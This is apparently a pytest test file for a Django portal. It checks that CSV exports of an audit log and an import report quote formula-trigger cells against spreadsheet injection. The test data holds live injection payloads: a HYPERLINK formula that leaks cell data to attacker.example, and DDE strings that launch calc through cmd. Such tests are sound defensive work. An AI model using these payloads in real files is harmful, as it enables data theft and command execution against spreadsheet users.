"""CSV exports open in a spreadsheet as text: no cell starts with what Excel, LibreOffice or Google Sheets
would run as a formula (``=``, ``+``, ``-``, ``@``, a tab, a carriage return).

The portal's exports are the audit log (staff console, "Export these events as CSV") and an import's
per-row report; both are downloaded here through their pages after an import file whose every field
holds a formula went through the real upload and check. No value is dropped to make it safe: the
hostile values are all in the files, each behind a ``'``.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from linking.audit.export import FORMULA_TRIGGERS, csv_cell
from linking.canvas import admin_client
from linking.models import ImportRun
from linking.services.imports import import_run_check

pytestmark = pytest.mark.usefixtures("fast_passwords")

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def exported_cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)]


@pytest.fixture
def hostile_import(staff, canvas_settings):  # noqa: F811 - the fixture
    """An import uploaded through the staff page, each field of each row a formula, then checked against Canvas."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["student_sis_id", "parent_email", "parent_first_name", "parent_last_name", "parent_sis_id"])
    for number, formula in enumerate(FORMULAS):
        # Parent emails lose their spaces and are lower-cased on reading; a formula survives both.
        email = formula.replace(" ", "") + f"{number}@example.com"
        writer.writerow([formula, email, formula, formula, formula])
        writer.writerow([f"S100{number + 1}", email, formula, formula, formula])
    upload = SimpleUploadedFile(f"{FORMULAS[0][:20]}.csv", out.getvalue().encode(), content_type="text/csv")
    response = staff.client.post(reverse("staff_import_new"), {"file": upload, "method": "api"})
    assert response.status_code == 302, response.content.decode()[:3000]
    run = ImportRun.objects.get()
    import_run_check(run=run, canvas=admin_client())
    return run


def test_the_import_report_quotes_every_formula_and_keeps_the_value(staff, hostile_import):
    rows = exported_cells(staff.client.get(reverse("staff_import_report", args=[hostile_import.pk])))

    assert rows[0][0] == "line"
    assert formula_cells(rows) == []
    cells = {cell for row in rows for cell in row}
    quoted_emails = {cell for cell in cells if cell.startswith("'") and cell.endswith("@example.com")}
    assert len(quoted_emails) == len(FORMULAS), cells


def test_the_audit_export_has_no_formula_cell_and_keeps_what_was_recorded(staff, hostile_import):
    staff.client.get(reverse("staff_import_report", args=[hostile_import.pk]))

    rows = exported_cells(staff.client.get(reverse("staff_audit_export")))

    assert formula_cells(rows) == []
    header, *events = rows
    personal = [json.loads(row[header.index("personal")]) for row in events]
    assert {"filename": hostile_import.filename} in [{"filename": p.get("filename")} for p in personal]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_column_the_portal_fills_itself_is_quoted_too(formula):
    assert csv_cell(formula) == "'" + formula


@given(st.text())
def test_no_text_becomes_a_cell_that_starts_with_a_formula_trigger(text):
    cell = csv_cell(text)

    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell in {text, "'" + text}, "the value is kept, at most behind a quote"
